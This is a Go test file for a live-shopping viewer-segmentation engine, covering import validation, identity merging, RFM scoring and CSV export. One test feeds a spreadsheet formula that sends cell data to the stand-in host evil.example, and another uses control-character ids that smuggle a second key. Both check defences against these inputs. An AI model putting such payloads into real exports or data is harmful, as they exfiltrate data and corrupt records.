package segment

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/liveroom/liveroom/event"
	"github.com/liveroom/liveroom/problem"
	"github.com/liveroom/liveroom/segment/rfm"
)

func TestImportReportsBadItemsByIndexAndKeepsGoodOnes(t *testing.T) {
	e := newEngine(t, nil, &clock{t: t0})
	body := `[
	 {"id":"a","type":"watch","viewer":"v1","at":"2026-06-15T10:00:00Z","seconds":600},
	 {"id":"b","type":"teleport","viewer":"v1","at":"2026-06-15T10:00:00Z"},
	 {"id":"c","type":"order","viewer":"v1","at":1781517600000,"order_id":"o1","total":"12.3.4"},
	 {"id":"d","type":"order","viewer":"v1","at":1781517600000,"order_id":"o2","total":"10","currency":"XXX"},
	 {"id":"","type":"like","viewer":"v1","at":"2026-06-15T10:00:00Z"},
	 {"id":"f","type":"like","viewer":"v1","at":"yesterday"},
	 {"id":"g","type":"like","viewer":"v1","at":"2030-01-01T00:00:00Z"},
	 {"id":"h","type":"order","viewer":"v1","at":1781517600000,"order_id":"o3","total":"10.00","currency":"EUR"},
	 "not an object",
	 {"id":"j","type":"watch","viewer":"v1","at":"2026-06-15T10:00:00Z","seconds":60,"room":"` + strings.Repeat("r", 201) + `"},
	 {"id":"k","type":"watch","viewer":"v1","at":"2026-06-15T10:00:00Z","seconds":60,"live":"L\u0001"},
	 {"id":"l","type":"product_click","viewer":"v1","at":"2026-06-15T10:00:00Z","category":"` + strings.Repeat("c", 201) + `"},
	 {"id":"m","type":"order","viewer":"v1","at":1781517600000,"order_id":"o4","total":"1.00","currency":"EUR","items":[{"sku":"s","category":"c\u0001"}]},
	 {"id":"n","type":"like","viewer":"v\u0085","at":"2026-06-15T10:00:00Z"},
	 {"id":"o","type":"watch","viewer":"v1","at":"2026-06-15T10:00:00Z","seconds":60,"room":"shop.eu"},
	 {"id":"p","type":"order","viewer":"v1","at":1781517600000,"order_id":"o5","total":"1.00","items":[{"sku":"s","price":"-500.00"}]},
	 {"id":"q","type":"like","viewer":"v1","name":"Ann\nBob","at":"2026-06-15T10:00:00Z"},
	 {"id":"r","type":"order","viewer":"v1","at":1781517600000,"order_id":"o6","total":"1.00","items":{"sku":"s"}},
	 {"id":"s","type":"like","viewer":"v1","at":"2026-06-15T10:00:00Z","count":"2"}
	]`
	res, err := e.ImportJSON(context.Background(), strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if res.Accepted != 2 {
		t.Errorf("accepted = %d, want 2", res.Accepted)
	}
	wantErr := map[int]string{1: "teleport", 2: "12.3.4", 3: "XXX", 4: "id is required", 5: "neither RFC 3339", 6: "outside", 8: "bad item",
		9: "must be 1-64 characters", 10: "live must not contain control",
		11: "category must be valid UTF-8 of at most 200", 12: "items[0].category must not contain control",
		13: "viewer must not contain control", 14: "only letters, digits, '-' and '_'",
		15: "items[0].price must not be negative", 16: "name must not contain control",
		17: `field "items" must be an array, not object`, 18: `field "count" must be a whole number, not string`}
	if len(res.Errors) != len(wantErr) {
		t.Errorf("errors = %+v", res.Errors)
	}
	for _, ie := range res.Errors {
		if !strings.Contains(ie.Error, wantErr[ie.Index]) {
			t.Errorf("item %d: error %q, want it to mention %q", ie.Index, ie.Error, wantErr[ie.Index])
		}
	}
	v := viewer(t, e, "v1")
	if v.WatchSeconds != 600 || v.Orders != 1 || v.Spend.String() != "11.00" || v.Sessions != 1 {
		t.Errorf("profile: watch %d, orders %d, spend %s (EUR 10 at 1.1), sessions %d", v.WatchSeconds, v.Orders, v.Spend, v.Sessions)
	}
	for _, bad := range []string{`{}`, `[`, `[{"id":"x"}`, `[] []`, ``} {
		if _, err := e.ImportJSON(context.Background(), strings.NewReader(bad)); err == nil {
			t.Errorf("body %q accepted", bad)
		}
	}
}

func TestReimportIsIdempotent(t *testing.T) {
	e := newEngine(t, nil, &clock{t: t0})
	body := "[" + orderJSON("e1", "v", 3, "19.99", "shoes") + "," + orderJSON("e2", "v", 1, "5.01", "bags") +
		`,{"id":"w1","type":"watch","viewer":"v","at":"2026-06-14T10:00:00Z","seconds":90}]`
	r1 := importJSON(t, e, body)
	r2 := importJSON(t, e, body)
	if r1.Accepted != 3 || r1.Duplicates != 0 || r2.Accepted != 3 || r2.Duplicates != 3 {
		t.Fatalf("first %+v, second %+v", r1, r2)
	}
	// The same order under another event id counts once too.
	importJSON(t, e, `[{"id":"e9","type":"order","viewer":"v","at":"2026-06-14T10:00:00Z","order_id":"o-e1","total":"19.99"}]`)
	v := viewer(t, e, "v")
	if v.Orders != 2 || v.Spend.String() != "25.00" || v.WatchSeconds != 90 {
		t.Fatalf("after re-imports: orders %d spend %s watch %d", v.Orders, v.Spend, v.WatchSeconds)
	}
}

func TestBackfilledAndLateEvents(t *testing.T) {
	e := newEngine(t, nil, &clock{t: t0})
	// A shop's history on day one: orders 400, 200 and 20 days ago, imported newest first.
	importJSON(t, e, "["+orderJSON("a", "v", 20, "10", "x")+","+orderJSON("b", "v", 200, "20", "x")+","+orderJSON("c", "v", 400, "40", "x")+"]")
	e.Sweep()
	v := viewer(t, e, "v")
	if v.Orders != 3 || v.Spend.String() != "70.00" {
		t.Errorf("lifetime: %d orders, %s", v.Orders, v.Spend)
	}
	if v.Windows.D365.Orders != 2 || v.Windows.D365.Spend.String() != "30.00" || v.Windows.D30.Orders != 1 || v.Windows.D90.Orders != 1 {
		t.Errorf("windows: %+v", v.Windows)
	}
	if *v.LastOrder != t0.Add(-20*24*time.Hour) || v.FirstSeen != t0.Add(-400*24*time.Hour) {
		t.Errorf("last order %v, first seen %v", v.LastOrder, v.FirstSeen)
	}
	if v.Tags[DimLifecycle] != Repeat {
		t.Errorf("lifecycle %v", v.Tags[DimLifecycle])
	}
	// A late watch stop arriving before its start (out of order) is ignored; a late
	// watch from 40 days ago fills its own day and does not move last visit forward.
	late := ev(event.Watch, "v", t0.Add(-40*24*time.Hour))
	late.Seconds = 300
	e.Apply(late)
	v = viewer(t, e, "v")
	if v.Windows.D90.WatchSec != 300 || v.Windows.D30.WatchSec != 0 || *v.LastVisit != t0.Add(-20*24*time.Hour) {
		t.Errorf("late watch: windows %+v, last visit %v", v.Windows, v.LastVisit)
	}
}

func TestPresenceCountsOnceAndTimesOut(t *testing.T) {
	clk := &clock{t: t0}
	e := newEngine(t, nil, clk)
	join := ev(event.Join, "v", t0)
	join.Live = "L1"
	watch := ev(event.WatchStart, "v", t0.Add(time.Minute))
	watch.Live = "L1"
	e.Apply(join)
	e.Apply(watch)
	stop := ev(event.WatchStop, "v", t0.Add(10*time.Minute))
	stop.Live = "L1"
	e.Apply(stop)
	leave := ev(event.Leave, "v", t0.Add(20*time.Minute))
	leave.Live = "L1"
	e.Apply(leave)
	v := viewer(t, e, "v")
	if v.WatchSeconds != 20*60 || v.Sessions != 1 || len(v.LiveSessions) != 1 || v.LiveSessions[0].WatchSeconds != 1200 {
		t.Fatalf("chat+video overlap: watch %d, sessions %d, lives %+v", v.WatchSeconds, v.Sessions, v.LiveSessions)
	}
	// A vanished client: joined, commented 5 minutes later, then nothing. The sweep after
	// the presence timeout counts it up to its last event.
	j2 := ev(event.Join, "v", t0.Add(time.Hour))
	j2.Live = "L2"
	e.Apply(j2)
	c := ev(event.Danmaku, "v", t0.Add(time.Hour+5*time.Minute))
	c.Live = "L2"
	e.Apply(c)
	clk.Add(time.Hour + 5*time.Minute + testConfig().PresenceTimeout + time.Minute)
	e.Sweep()
	v = viewer(t, e, "v")
	if v.WatchSeconds != 25*60 || v.Sessions != 2 || v.LiveSessions[1].Watching {
		t.Fatalf("after timeout: watch %d, sessions %d, lives %+v", v.WatchSeconds, v.Sessions, v.LiveSessions)
	}
	// A live that ends closes its presences at the end.
	j3 := ev(event.WatchStart, "v", clk.Now())
	j3.Live = "L3"
	e.Apply(j3)
	end := event.Event{Type: event.LiveEnd, Live: "L3", At: clk.Now().Add(3 * time.Minute)}
	e.Apply(end)
	if v = viewer(t, e, "v"); v.WatchSeconds != 28*60 {
		t.Fatalf("after live end: watch %d", v.WatchSeconds)
	}
}

func TestIdentityMerge(t *testing.T) {
	e := newEngine(t, nil, &clock{t: t0})
	// The shop's history names the customer under the shop's own viewer id.
	importJSON(t, e, `[{"id":"h1","type":"order","viewer":"shop-42","at":"2026-05-01T10:00:00Z","order_id":"s1","total":"30","customer":{"id":"42","email":"Ann@Example.com"}}]`)
	// A guest watches, then orders with the same e-mail: the guest is merged in.
	for _, x := range session("guest-7", "L1", t0.Add(-time.Hour), 15*time.Minute, 2) {
		e.Apply(x)
	}
	importJSON(t, e, `[{"id":"h2","type":"order","viewer":"guest-7","at":"2026-06-15T11:50:00Z","order_id":"s2","total":"20","customer":{"email":"ann@example.com"}}]`)
	for _, id := range []string{"shop-42", "guest-7", "customer:42", "email:ann@example.com"} {
		v := viewer(t, e, id)
		if v.ID != "shop-42" || v.Orders != 2 || v.Spend.String() != "50.00" || v.WatchSeconds != 15*60 || v.Comments != 2 {
			t.Fatalf("lookup %s: id %s orders %d spend %s watch %d comments %d", id, v.ID, v.Orders, v.Spend, v.WatchSeconds, v.Comments)
		}
	}
	// Later live events of the guest id land on the merged profile.
	c := ev(event.Like, "guest-7", t0)
	c.Count = 3
	e.Apply(c)
	if v := viewer(t, e, "shop-42"); v.Likes != 3 {
		t.Fatalf("likes after merge = %d", v.Likes)
	}
	if e.Count() != 1 {
		t.Fatalf("%d profiles, want 1", e.Count())
	}
	// A guest who became a customer of their own (by e-mail) and then orders as the
	// known customer brings their links along.
	importJSON(t, e, `[{"id":"h3","type":"order","viewer":"guest-9","at":"2026-06-15T11:00:00Z","order_id":"s3","total":"5","customer":{"email":"bob@example.com"}},
	 {"id":"h4","type":"order","viewer":"guest-9","at":"2026-06-15T11:10:00Z","order_id":"s4","total":"5","customer":{"id":"42"}}]`)
	for _, id := range []string{"guest-9", "email:bob@example.com"} {
		if v := viewer(t, e, id); v.ID != "shop-42" || v.Orders != 4 {
			t.Fatalf("lookup %s after a second merge: id %s orders %d", id, v.ID, v.Orders)
		}
	}
}

func TestRFMOverBuyersWithTies(t *testing.T) {
	e := newEngine(t, nil, &clock{t: t0})
	// Five buyers; spend 10, 20, 20, 40, 80; one order each except b5 with three, all
	// on the same day except b1 (older).
	var items []string
	spend := []string{"10", "20", "20", "40", "80"}
	for i, s := range spend {
		days := 5
		if i == 0 {
			days = 100
		}
		items = append(items, orderJSON(fmt.Sprintf("b%d", i+1), fmt.Sprintf("b%d", i+1), days, s, "x"))
	}
	items = append(items, orderJSON("b5x", "b5", 6, "0.00", "x"), orderJSON("b5y", "b5", 7, "0.00", "x"))
	importJSON(t, e, "["+strings.Join(items, ",")+"]")
	e.Sweep()
	// Recency: b1 is the only older one → 1; the rest have 1 worse of 5 → 1+⌊5/5⌋ = 2.
	// Frequency: b5 has 4 worse → 5; others 1. Monetary: 10→1, 20s→2 (1 worse), 40→4
	// (3 worse: 1+⌊15/5⌋), 80→5.
	want := map[string]RFM{
		"b1": {1, 1, 1, wordOf(rfm.Lost)},
		"b2": {2, 1, 2, wordOf(rfm.Hibernating)},
		"b3": {2, 1, 2, wordOf(rfm.Hibernating)},
		"b4": {2, 1, 4, wordOf(rfm.Hibernating)},
		"b5": {2, 5, 5, wordOf(rfm.AtRisk)},
	}
	for id, w := range want {
		if got := viewer(t, e, id).RFM; got != w {
			t.Errorf("%s: rfm %+v, want %+v", id, got, w)
		}
	}
	if v := viewer(t, e, "b5"); v.Tags[DimValue] != rfm.Important {
		t.Errorf("b5 value %v", v.Tags[DimValue])
	}
}

func TestAnalytics(t *testing.T) {
	e := newEngine(t, nil, &clock{t: t0})
	// a: first order 60 days ago, again 10 days later → repurchased.
	// b: first order 50 days ago, again 40 days later → not within 30 days.
	// c: first order 10 days ago → too recent to count.
	// d: only watched, 40 days ago → dormant; e: commented today (engaged).
	importJSON(t, e, "["+strings.Join([]string{
		orderJSON("a1", "a", 60, "10", "x"), orderJSON("a2", "a", 50, "10", "x"),
		orderJSON("b1", "b", 50, "10", "x"), orderJSON("b2", "b", 10, "10", "x"),
		orderJSON("c1", "c", 10, "10", "x"),
		`{"id":"d1","type":"watch","viewer":"d","room":"r2","at":"2026-05-06T10:00:00Z","seconds":60}`,
		`{"id":"e1","type":"danmaku","viewer":"e","room":"r2","at":"2026-06-15T10:00:00Z","text":"hello"}`,
	}, ",")+"]")
	e.Sweep()
	a := e.Analytics(context.Background(), "")
	if a.FirstBuyers != 2 || a.Repurchasers != 1 || *a.Repurchase30d != 0.5 {
		t.Errorf("repurchase: %d of %d = %v", a.Repurchasers, a.FirstBuyers, a.Repurchase30d)
	}
	// Dormant: a (last order 50 days ago) and d; 2 of 5.
	if a.Dormant != 2 || *a.DormantShare != 0.4 {
		t.Errorf("dormant %d share %v", a.Dormant, *a.DormantShare)
	}
	if a.Funnel != (Funnel{Viewers: 5, Engaged: 1, FirstOrder: 3, Repeat: 2}) || a.DMConversion != nil {
		t.Errorf("funnel %+v dm %v", a.Funnel, a.DMConversion)
	}
	r := e.Analytics(context.Background(), "r2")
	if r.Funnel.Viewers != 2 || r.Repurchase30d != nil || *r.DormantShare != 0.5 {
		t.Errorf("room r2: %+v", r)
	}
	counts := e.Segments(context.Background())
	if counts.Viewers != 5 || counts.Dimensions[DimActivity][Dormant] != 2 || counts.Dimensions[DimLifecycle][Repeat] != 1 {
		t.Errorf("segments %+v", counts)
	}
	page, err := e.Members(context.Background(), DimActivity, Dormant, "", 1)
	if err != nil || len(page.Members) != 1 || page.Members[0].ID != "a" || page.Next != "a" || page.Total != 2 {
		t.Fatalf("page 1 %+v %v", page, err)
	}
	page, _ = e.Members(context.Background(), DimActivity, Dormant, page.Next, 1)
	if len(page.Members) != 1 || page.Members[0].ID != "d" || page.Next != "" {
		t.Fatalf("page 2, the last: %+v", page)
	}
	if b, _ := json.Marshal(page.Members[0]); !strings.Contains(string(b), `"name":`) {
		t.Fatalf("a member without a name lacks the name field: %s", b)
	}
	var csv strings.Builder
	if err := e.MembersCSV(context.Background(), DimActivity, Dormant, &csv); err != nil || strings.Count(csv.String(), "\n") != 3 {
		t.Fatalf("csv %q %v", csv.String(), err)
	}
	for _, bad := range [][2]string{{"mood", "x"}, {"activity", "sleepy"}, {"preference", ""}} {
		if _, err := e.Members(context.Background(), bad[0], bad[1], "", 10); err == nil {
			t.Errorf("members %v accepted", bad)
		}
	}
}

// failingStore refuses commits while fail is set, erasures while failErase is.
type failingStore struct {
	*MemoryStore
	fail, failErase atomic.Bool
}

func (f *failingStore) Commit(ctx context.Context, b *Batch) error {
	if f.fail.Load() {
		return errors.New("disk full")
	}
	return f.MemoryStore.Commit(ctx, b)
}

func (f *failingStore) Erase(ctx context.Context, owners []string) error {
	if f.failErase.Load() {
		return errors.New("disk full")
	}
	return f.MemoryStore.Erase(ctx, owners)
}

func TestImportRetriedAfterStoreFailureAppliesOnce(t *testing.T) {
	store := &failingStore{MemoryStore: NewMemoryStore()}
	store.fail.Store(true)
	e := newEngine(t, store, &clock{t: t0})
	body := "[" + orderJSON("e1", "v", 3, "10", "x") + "]"
	if _, err := e.ImportJSON(context.Background(), strings.NewReader(body)); problem.KindOf(err) != problem.Unavailable {
		t.Fatalf("import on a failing store: %v", err)
	}
	store.fail.Store(false)
	res := importJSON(t, e, body)
	if res.Accepted != 1 || res.Duplicates != 1 {
		t.Fatalf("retry: %+v", res)
	}
	if v := viewer(t, e, "v"); v.Orders != 1 || v.Spend.String() != "10.00" {
		t.Fatalf("after retry: %d orders, %s", v.Orders, v.Spend)
	}
	if seen, _ := store.Seen(context.Background(), KindEvent, []string{"e1"}); !seen["e1"] {
		t.Fatal("the retried event is not stored")
	}
}

// Live events, imports with merges, sweeps and flushes at once: no race, no deadlock,
// nothing lost.
func TestConcurrentLiveAndImports(t *testing.T) {
	e := newEngine(t, nil, &clock{t: t0})
	var wg sync.WaitGroup
	for range 4 {
		wg.Go(func() {
			for i := range 200 {
				x := ev(event.Like, fmt.Sprintf("g%d", i%20), t0)
				e.Apply(x)
				if i%50 == 0 {
					e.Sweep()
				}
			}
		})
	}
	for w := range 2 {
		wg.Go(func() {
			for i := range 20 {
				body := fmt.Sprintf(`[{"id":"w%d-%d","type":"order","viewer":"g%d","at":"2026-06-15T10:00:00Z","order_id":"w%d-%d","total":"1","customer":{"id":"c%d"}}]`, w, i, i, w, i, i%3)
				if _, err := e.ImportJSON(context.Background(), strings.NewReader(body)); err != nil {
					t.Error(err)
				}
				e.Flush(context.Background())
			}
		})
	}
	wg.Wait()
	total := 0
	for _, id := range []string{"customer:c0", "customer:c1", "customer:c2"} {
		total += viewer(t, e, id).Orders
	}
	if total != 40 {
		t.Fatalf("%d orders across the three customers, want 40", total)
	}
	// Each of g0..g19 is found (merged or not); merged guests share a profile, so
	// count each profile once.
	seen := map[string]int{}
	for i := range 20 {
		v := viewer(t, e, fmt.Sprintf("g%d", i))
		seen[v.ID] = v.Likes
	}
	sum := 0
	for _, n := range seen {
		sum += n
	}
	if sum != 800 {
		t.Fatalf("%d likes kept, want 800", sum)
	}
}

// TestJoinRemembersThePinnedProduct: a join carrying the product pinned at that moment
// shows it in the viewer's recent events (the console's "what was pinned when they
// joined").
func TestJoinRemembersThePinnedProduct(t *testing.T) {
	clk := &clock{t: t0}
	e := newEngine(t, nil, clk)
	e.Apply(event.Event{ID: "j1", Type: event.Join, At: t0, Viewer: "v1", Room: "r1", SKU: "SKU-9", Text: "Silk scarf"})
	e.Apply(event.Event{ID: "j2", Type: event.Join, At: t0, Viewer: "v2", Room: "r1"})
	found := false
	for _, r := range viewer(t, e, "v1").Recent {
		found = found || (r.Type == "join" && r.Detail == "r1 pinned SKU-9 Silk scarf")
	}
	if !found {
		t.Fatalf("v1's recent events lack the pinned product: %+v", viewer(t, e, "v1").Recent)
	}
	for _, r := range viewer(t, e, "v2").Recent {
		if r.Detail != "r1" {
			t.Fatalf("v2 joined with nothing pinned: %+v", r)
		}
	}
}

// TestStaffMakeNoProfile: a host's, agent's or admin's own presence and messages make
// no profile and reach no subscriber; an agent's DM to a viewer is the viewer's.
func TestStaffMakeNoProfile(t *testing.T) {
	e := newEngine(t, nil, &clock{t: t0})
	sub := event.NewQueue(64)
	defer e.Subscribe(sub)()
	for _, role := range []string{event.RoleHost, event.RoleAgent, event.RoleAdmin} {
		for _, typ := range []event.Type{event.Join, event.WatchStart, event.Watch, event.Danmaku, event.Like, event.Leave} {
			x := ev(typ, "staff-"+role, t0)
			x.Role, x.Seconds = role, 60
			e.Apply(x)
		}
		if _, err := e.Viewer(context.Background(), "staff-"+role); err == nil {
			t.Errorf("a %s has a profile", role)
		}
	}
	if n := sub.Published(); n != 0 {
		t.Fatalf("%d staff events reached the subscriber", n)
	}
	// An agent's DM to someone the engine does not know (the host, not in the room)
	// makes no profile; to a viewer in the room it is the viewer's.
	absent := ev(event.DM, "staff-host-away", t0)
	absent.Role, absent.Peer, absent.Text = event.RoleAgent, "staff-agent", "are you there?"
	e.Apply(absent)
	if _, err := e.Viewer(context.Background(), "staff-host-away"); err == nil {
		t.Error("an agent's DM to an absent host made a profile")
	}
	e.Apply(ev(event.Join, "v", t0))
	for _, ok := sub.TryNext(); ok; _, ok = sub.TryNext() { // the join and its tags
	}
	dm := ev(event.DM, "v", t0)
	dm.Role, dm.Peer, dm.Text, dm.Name = event.RoleAgent, "staff-agent", "hello", "Agent Ann"
	e.Apply(dm)
	if v := viewer(t, e, "v"); len(v.Recent) != 2 || v.Recent[0].Type != string(event.DM) {
		t.Fatalf("the agent's DM is not the viewer's: %+v", v.Recent)
	}
	if got, _ := sub.Next(context.Background()); got.Type != event.DM {
		t.Fatalf("the subscriber got %s first, want the DM", got.Type)
	}
	// The sender's name is not the viewer's, whichever staff role wrote.
	adm := ev(event.DM, "v", t0)
	adm.Role, adm.Peer, adm.Text, adm.Name = event.RoleAdmin, "staff-admin", "a coupon", "Admin Bo"
	e.Apply(adm)
	if v := viewer(t, e, "v"); v.Name != "" {
		t.Fatalf("staff's DM renamed the viewer to %q", v.Name)
	}
}

// TestImportErrorsByIndex: items refused by the decoder and by the order check are
// reported together in index order.
func TestImportErrorsByIndex(t *testing.T) {
	e := newEngine(t, nil, &clock{t: t0})
	res, err := e.ImportJSON(context.Background(), strings.NewReader(`[
	 {"id":"o1","type":"order","viewer":"v","at":"2026-06-01T10:00:00Z","order_id":"x1","total":"9","currency":"XXX"},
	 {"id":"ok","type":"watch","viewer":"v","at":"2026-06-01T10:00:00Z","seconds":5},
	 {"id":"bad","type":"nonsense","viewer":"v","at":"2026-06-01T10:00:00Z"}]`))
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Errors) != 2 || res.Errors[0].Index != 0 || res.Errors[1].Index != 2 || res.Accepted != 1 {
		t.Fatalf("result %+v, want errors at 0 then 2 and one accepted", res)
	}
}

// An event made by the node itself rather than decoded (a shop's webhook builds its
// order event from the cart's note attributes, which the buyer writes) is checked
// like an imported one: a viewer, customer, room or live id with a control character,
// which in a store key would pass for the start of another id, is refused by index
// and the rest are kept.
func TestImportChecksIDsOfEventsItDidNotDecode(t *testing.T) {
	e := newEngine(t, nil, &clock{t: t0})
	order := func(viewer string, customer *event.Person) event.Event {
		return event.Event{ID: "shopify:webhook:" + viewer, Type: event.Order, Viewer: viewer, At: t0,
			Order: &event.OrderInfo{OrderID: "o-" + viewer, Total: "9.00", Currency: "USD", Customer: customer}}
	}
	withRoom, withLive := order("r", nil), order("l", nil)
	withRoom.Room, withLive.Live = "room\x00x", "live\x00x"
	items := []Item{
		{Index: 0, Event: order("victim\x00evil", nil)},
		{Index: 1, Event: order("ok", nil)},
		{Index: 2, Event: order("c", &event.Person{ID: "K\x00x"})},
		{Index: 3, Event: order("m", &event.Person{Email: "a\x00@x.com"})},
		{Index: 4, Event: withRoom},
		{Index: 5, Event: withLive},
		{Index: 6, Event: order(strings.Repeat("x", maxIDLen+1), nil)},
	}
	res, err := e.Import(context.Background(), items, nil)
	if err != nil {
		t.Fatal(err)
	}
	var refused []int
	for _, x := range res.Errors {
		refused = append(refused, x.Index)
	}
	if !slices.Equal(refused, []int{0, 2, 3, 4, 5, 6}) || res.Accepted != 1 || e.Count() != 1 {
		t.Fatalf("refused %v, %d accepted, %d profiles; want all but item 1 refused", refused, res.Accepted, e.Count())
	}
}

// TestMembersCSVNoFormulas: a viewer whose name a spreadsheet would run as a formula
// is exported as text (a leading apostrophe); other names are unchanged.
func TestMembersCSVNoFormulas(t *testing.T) {
	e := newEngine(t, nil, &clock{t: t0})
	for id, name := range map[string]string{"v1": `=HYPERLINK("http://evil.example/?"&A2,"Click")`, "v2": "@SUM(A1)", "v3": "Ann-Marie"} {
		x := ev(event.WatchStart, id, t0)
		x.Name, x.Live = name, "L1"
		e.Apply(x)
	}
	var out strings.Builder
	if err := e.MembersCSV(context.Background(), DimLifecycle, NewViewer, &out); err != nil {
		t.Fatal(err)
	}
	got := out.String()
	for _, want := range []string{`"'=HYPERLINK(`, `'@SUM(A1)`, `,Ann-Marie,`} {
		if !strings.Contains(got, want) {
			t.Errorf("the CSV lacks %s:\n%s", want, got)
		}
	}
}

// A category that reads like a price band is refused on import (as a preference it
// would pass for the band); from a pin in chat it counts as no category.
func TestCategoryLikeAPriceBand(t *testing.T) {
	e := newEngine(t, nil, &clock{t: t0})
	res, err := e.ImportJSON(context.Background(), strings.NewReader(`[
	 {"id":"a","type":"product_click","viewer":"v","at":"2026-06-15T10:00:00Z","category":"price:low"},
	 {"id":"b","type":"order","viewer":"v","at":"2026-06-15T10:00:00Z","order_id":"o1","total":"5","items":[{"sku":"s","category":"price:high"}]}]`))
	if err != nil {
		t.Fatal(err)
	}
	if res.Accepted != 0 || len(res.Errors) != 2 || !strings.Contains(res.Errors[0].Error, `"price:"`) || !strings.Contains(res.Errors[1].Error, "items[0].category") {
		t.Fatalf("result %+v", res)
	}
	e.Apply(event.Event{ID: "pin", Type: event.Pin, Room: "r1", SKU: "s9", Category: "price:mid", Value: 10, At: t0})
	click := ev(event.ProductClick, "w", t0)
	click.SKU = "s9"
	e.Apply(click)
	if v := viewer(t, e, "w"); len(v.Clicks) != 0 {
		t.Fatalf("clicks %+v, want none under a price band's word", v.Clicks)
	}
}

// clip cuts to characters, not bytes, and copies nothing when the text fits.
func TestClipCutsCharactersWithoutCopying(t *testing.T) {
	for _, c := range []struct {
		in   string
		n    int
		want string
	}{
		{"", 3, ""}, {"abc", 3, "abc"}, {"abcd", 3, "abc…"}, {"日本語", 3, "日本語"}, {"日本語です", 3, "日本語…"},
		{"é" + strings.Repeat("x", 79), 80, "é" + strings.Repeat("x", 79)}, {strings.Repeat("ü", 81), 80, strings.Repeat("ü", 80) + "…"},
		{"\xff\xfe\xfd\xfc", 2, "\xff\xfe…"},
	} {
		if got := clip(c.in, c.n); got != c.want {
			t.Errorf("clip(%q, %d) = %q, want %q", c.in, c.n, got, c.want)
		}
	}
	long := "so pretty! is the scarves in size 23 still there? #1234 and the hats?"
	if n := testing.AllocsPerRun(10, func() { clip(long, 80) }); n != 0 {
		t.Errorf("%.0f allocations to keep a comment that fits", n)
	}
}
